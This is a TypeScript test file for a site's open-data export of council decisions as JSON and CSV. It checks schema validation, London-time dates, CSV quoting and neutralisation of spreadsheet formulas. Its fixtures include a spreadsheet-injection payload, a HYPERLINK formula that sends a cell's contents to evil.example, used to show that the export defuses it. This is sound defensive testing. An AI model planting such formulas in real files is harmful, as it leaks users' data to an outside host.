/**
 * Open data: /data/decisions.json (checked with ajv against the schema the site publishes) and
 * /data/decisions.csv (read back with papaparse), from records built through the real pipeline.
 */
import Ajv2020 from 'ajv/dist/2020';
import addFormats from 'ajv-formats';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { collectContent } from '../../lib/content/collect';
import { readContentDir } from '../../lib/content/read-content-dir';
import type { ContentFile } from '../../lib/content/types';
import { DATA_FIELDS, dataRepresentation, decisionRecords, decisionsCsv, decisionsJson, decisionsJsonSchema, type DecisionRecord } from '../../lib/data/export';
import { buildIndexes } from '../../lib/records/indexes';
import type { SiteRecords } from '../../lib/site';
import { collect, contentFiles, decision, post, SITE, siteRecordsOf } from './helpers';
import { FIXTURE_CONTENT } from '../support/content';

const NOW = new Date('2011-07-20T12:00:00Z');

function recordsFrom(files: ContentFile[] | ReturnType<typeof contentFiles>, now = NOW): SiteRecords {
  return siteRecordsOf(collectContent(Array.isArray(files) ? contentFiles(files) : files), now);
}

const FORMULAS = ['=HYPERLINK("https://evil.example/?leak="&A1,"Click")', '+1+1', '-2+3', '@SUM(A1:A9)', '＝1+1'];

const fixture = () => [
  post(
    {
      title: 'Commas, "quotes" and =formulas in one post',
      date: '2011-07-01',
      meeting: undefined,
      author: 'Ann',
      decisions: [
        ...FORMULAS.map((subject, i) => ({ id: `formula-${i + 1}`, subject, stage: 'other', outcome: 'noted' })),
        {
          subject: 'Line one\nline two, with a comma and "quotes" 🎉 العربية 中文',
          project: 'nscso',
          stage: 'procurement',
          outcome: 'agreed',
          documents: [
            { title: '=Report, part 1', url: 'https://example.org/a?x=1&y=2' },
            { title: 'Annex "B"', url: 'https://example.org/b' },
          ],
        },
      ],
    },
    { name: '2011-07-01-formulas' },
  ),
  post({ title: 'The default post' }, { name: '2011-06-30-default' }),
  post({ title: 'A draft', date: '2011-05-01', draft: true }, { name: '2011-05-01-draft' }),
  post({ title: 'A scheduled post', date: '2011-08-01' }, { name: '2011-08-01-scheduled' }),
];

function parseCsv(csv: string): string[][] {
  const parsed = Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { header: false, skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
}

function newAjv() {
  const ajv = new Ajv2020({ allErrors: true, strict: true, allowUnionTypes: true });
  addFormats(ajv);
  return ajv;
}

describe('the bundled content as open data', () => {
  const load = async () => recordsFrom(await readContentDir(FIXTURE_CONTENT), new Date());

  it('has one record per decision item: 6 items in the 4 seed posts', async () => {
    const records = await load();
    // The fixture-only posts (their slugs say fixture) are other tests' business.
    const rows = decisionRecords(records).filter((r) => !r.post_slug.includes('fixture'));
    expect(rows).toHaveLength(6);
    expect(new Set(rows.map((r) => r.post_slug)).size).toBe(4);
    const hendon = rows.filter((r) => r.post_title === 'Last night in Hendon');
    expect(hendon.map((r) => [r.item_number, r.stage, r.outcome, r.project_slug])).toEqual([
      [1, 'options-appraisal', 'accepted', 'nscso'],
      [2, 'fees-and-charges', 'considered', null],
      [3, 'contract-award', 'considered', 'legal-partner'],
    ]);
    expect(hendon[0]!.meeting_date).toBe('2011-03-02');
    expect(hendon[0]!.committee_name).toBe('Cabinet Resources Committee');
  });

  it('CSV: BOM, header row, CRLF, one row per item, the same values as the JSON', async () => {
    const records = await load();
    const csv = decisionsCsv(records);
    expect(csv.startsWith('\uFEFFpost_slug,post_url,')).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.replace(/\r\n/g, '')).not.toMatch(/\r|\n/); // no bare line ends in this content
    const [header, ...rows] = parseCsv(csv);
    expect(header).toEqual(DATA_FIELDS.map((f) => f.name));
    const json = decisionsJson(records).decisions;
    expect(rows).toHaveLength(json.length);
    expect(json.filter((r) => !r.post_slug.includes('fixture'))).toHaveLength(6);
    rows.forEach((row, i) => {
      const record = json[i]!;
      expect(row[header!.indexOf('post_url')]).toBe(record.post_url);
      expect(row[header!.indexOf('subject')]).toBe(record.subject);
      expect(row[header!.indexOf('project_slug')]).toBe(record.project_slug ?? '');
      expect(row[header!.indexOf('updated')]).toBe(record.updated);
    });
  });

  it('JSON: validates against the published schema', async () => {
    const file = decisionsJson(await load());
    const validate = newAjv().compile(decisionsJsonSchema(SITE));
    expect(validate(file), JSON.stringify(validate.errors)).toBe(true);
    expect(file.count).toBe(file.decisions.length);
    expect(file.decisions.filter((r) => !r.post_slug.includes('fixture'))).toHaveLength(6);
    expect(file.licence.name).toBe('Open Government Licence v3.0');
  });
});

describe('records', () => {
  const records = recordsFrom(fixture());

  it('leave out drafts and scheduled posts, and include a scheduled post once its time comes', () => {
    const slugs = new Set(decisionRecords(records).map((r) => r.post_slug));
    expect([...slugs]).toEqual(['2011-07-01-formulas', '2011-06-30-default']);
    const later = recordsFrom(fixture(), new Date('2011-08-02T00:00:00Z'));
    expect(new Set(decisionRecords(later).map((r) => r.post_slug))).toEqual(new Set(['2011-08-01-scheduled', '2011-07-01-formulas', '2011-06-30-default']));
    for (const body of [decisionsCsv(records), JSON.stringify(decisionsJson(records))]) {
      expect(body).not.toContain('2011-05-01-draft');
      expect(body).not.toContain('2011-08-01-scheduled');
    }
  });

  it('mark an unknown meeting date as null, not a guess', () => {
    const row = decisionRecords(records).find((r) => r.post_slug === '2011-07-01-formulas')!;
    expect(row.meeting_date).toBeNull();
    expect(row.project_slug).toBeNull();
    expect(row.project_name).toBeNull();
  });

  it('give absolute post URLs and ISO times on the London date', () => {
    const row = decisionRecords(records)[0]!;
    expect(row.post_url).toBe(`${SITE.baseUrl}/decisions/2011-07-01-formulas`);
    // Published on 1 July 2011 (London midnight, BST): never the UTC instant of 30 June.
    expect(row.published).toBe('2011-07-01T00:00:00+01:00');
    expect(row.updated).toBe(row.published);
  });

  it('write every date in the CSV and the JSON as the London date, in winter and summer, with corrections', () => {
    const london = recordsFrom([
      post(
        { title: 'Winter post', date: '2011-01-15', updates: [{ date: '2011-03-27', note: 'Corrected on the day the clocks went forward.' }] },
        { name: '2011-01-15-winter' },
      ),
      post({ title: 'Summer post', date: '2011-06-30T00:30' }, { name: '2011-06-30-summer' }),
    ]);
    const json = decisionsJson(london).decisions;
    const winter = json.find((d) => d.post_slug === '2011-01-15-winter')!;
    const summer = json.find((d) => d.post_slug === '2011-06-30-summer')!;
    expect(winter.published).toBe('2011-01-15T00:00:00+00:00');
    expect(winter.updated).toBe('2011-03-27T00:00:00+00:00');
    expect(summer.published).toBe('2011-06-30T00:30:00+01:00');
    const [header, ...rows] = parseCsv(decisionsCsv(london));
    const at = (name: string) => header!.indexOf(name);
    const summerRow = rows.find((r) => r[at('post_slug')] === '2011-06-30-summer')!;
    expect(summerRow[at('published')]).toBe('2011-06-30T00:30:00+01:00');
    for (const row of rows) for (const field of ['published', 'updated']) expect(row[at(field)]).not.toMatch(/Z$/);
    // The instant is kept exactly: the offset makes it the same moment as the UTC time.
    expect(new Date(summer.published).toISOString()).toBe('2011-06-29T23:30:00.000Z');
  });
});

describe('CSV is safe to open in a spreadsheet and round-trips', () => {
  const records = recordsFrom(fixture());
  const csv = decisionsCsv(records);
  const [header, ...rows] = parseCsv(csv);
  const column = (name: keyof DecisionRecord & string) => header!.indexOf(name);

  it('neutralises every cell that a spreadsheet would run as a formula', () => {
    const subjects = rows.map((row) => row[column('subject')]!);
    for (const formula of FORMULAS) expect(subjects).toContain(`'${formula}`);
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
  });

  it('neutralises a leading tab or carriage return too', () => {
    const raw = {
      ...collect(),
      indexes: buildIndexes([
        decision({
          slug: 'tabbed',
          published: new Date('2011-01-01T00:00:00Z'),
          title: '\t=1+1',
          items: [{ id: 'r-2-2', subject: '\r=2+2', stage: 'other', outcome: 'noted', documents: [] }],
        }),
      ]),
    } as unknown as SiteRecords;
    const [, row] = parseCsv(decisionsCsv({ ...raw, site: SITE as SiteRecords['site'] }));
    expect(row![column('post_title')]).toBe("'\t=1+1");
    // Line ends in the data are LF; a cell that starts with one is neutralised too.
    expect(row![column('subject')]).toBe("'\n=2+2");
  });

  it('quotes commas, quotes and line breaks (RFC 4180) and keeps every character', () => {
    const row = rows.find((r) => r[column('project_slug')] === 'nscso' && r[column('post_slug')] === '2011-07-01-formulas')!;
    expect(row[column('subject')]).toBe('Line one\nline two, with a comma and "quotes" 🎉 العربية 中文');
    expect(row[column('documents')]).toBe('\'=Report, part 1 <https://example.org/a?x=1&y=2>; Annex "B" <https://example.org/b>');
    expect(row[column('post_title')]).toBe('Commas, "quotes" and =formulas in one post');
    expect(csv).toContain('"Commas, ""quotes"" and =formulas in one post"');
  });

  it('has as many rows as JSON records, and the JSON keeps the raw values', () => {
    const json = decisionsJson(records);
    expect(rows).toHaveLength(json.count);
    expect(json.decisions.map((d) => d.subject)).toEqual(expect.arrayContaining(FORMULAS));
    const documents = json.decisions.find((d) => d.documents.length > 0)!.documents;
    expect(documents).toEqual([
      { title: '=Report, part 1', url: 'https://example.org/a?x=1&y=2' },
      { title: 'Annex "B"', url: 'https://example.org/b' },
    ]);
  });
});

describe('the JSON Schema', () => {
  it('is a valid draft 2020-12 schema with every field documented', () => {
    const schema = decisionsJsonSchema(SITE) as {
      $schema: string;
      $id: string;
      $defs: { decision: { required: string[]; properties: Record<string, { description?: string }> } };
    };
    expect(schema.$schema).toBe('https://json-schema.org/draft/2020-12/schema');
    expect(schema.$id).toBe(`${SITE.baseUrl}/data/decisions.schema.json`);
    expect(() => newAjv().compile(schema)).not.toThrow();
    expect(schema.$defs.decision.required).toEqual(DATA_FIELDS.map((f) => f.name));
    for (const field of DATA_FIELDS) expect(schema.$defs.decision.properties[field.name]!.description).toBeTruthy();
  });

  it('accepts the fixture and rejects records that break it', () => {
    const validate = newAjv().compile(decisionsJsonSchema(SITE));
    const file = decisionsJson(recordsFrom(fixture()));
    expect(validate(file), JSON.stringify(validate.errors)).toBe(true);
    const broken = structuredClone(file);
    (broken.decisions[0] as unknown as Record<string, unknown>).outcome = 'maybe';
    expect(validate(broken)).toBe(false);
    const extra = structuredClone(file) as unknown as Record<string, unknown>;
    extra.surprise = true;
    expect(validate(extra)).toBe(false);
  });

  it('the JSON file points to its schema and counts its records', () => {
    const file = decisionsJson(recordsFrom(fixture()));
    expect(file.$schema).toBe(`${SITE.baseUrl}/data/decisions.schema.json`);
    expect(file.count).toBe(file.decisions.length);
    // The latest publication or correction in the file, on its London date: 1 July 2011, not the UTC 30 June.
    expect(file.updated).toBe('2011-07-01T00:00:00+01:00');
  });
});

describe('downloads are built once per visible set', () => {
  it('memoises the JSON and CSV', () => {
    const records = recordsFrom(fixture());
    expect(dataRepresentation(records, 'csv')).toBe(dataRepresentation(records, 'csv'));
    expect(dataRepresentation(records, 'json')).toBe(dataRepresentation(records, 'json'));
    expect(dataRepresentation(records, 'csv').headers?.['Content-Disposition']).toBe('attachment; filename="decisions.csv"');
  });
});
